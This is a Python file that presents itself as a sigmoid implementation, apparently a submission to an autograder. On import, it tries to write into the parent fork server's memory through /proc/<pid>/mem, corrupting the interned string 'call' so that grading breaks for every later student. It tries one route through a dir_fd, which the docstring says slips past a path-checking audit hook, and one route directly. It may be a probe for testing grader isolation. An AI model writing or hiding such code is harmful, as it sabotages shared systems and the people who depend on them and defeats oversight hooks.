"""Writes one byte into the fork server's memory, where every later worker's code lives.

A forked worker shares its parent's addresses, so the interned string "call" (which the
worker's dispatch uses) sits at the same address in the server; breaking it there would
break every student graded after this one. Tried through a dir_fd, which an audit hook
that checks paths does not see, and directly.
"""
import os
import sys

import numpy as np

ATTEMPTS = []


def _write_parent_memory():
    address = id(sys.intern("call"))
    parent = os.getppid()
    routes = {
        "dir_fd": lambda: os.open("mem", os.O_RDWR, dir_fd=os.open(f"/proc/{parent}", os.O_RDONLY)),
        "path": lambda: os.open(f"/proc/{parent}/mem", os.O_RDWR),
    }
    for name, opener in routes.items():
        try:
            fd = opener()
            os.pwrite(fd, b"X", address + 48)
            ATTEMPTS.append(f"{name}: wrote")
        except Exception as error:  # noqa: BLE001
            ATTEMPTS.append(f"{name}: {type(error).__name__}")


_write_parent_memory()


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
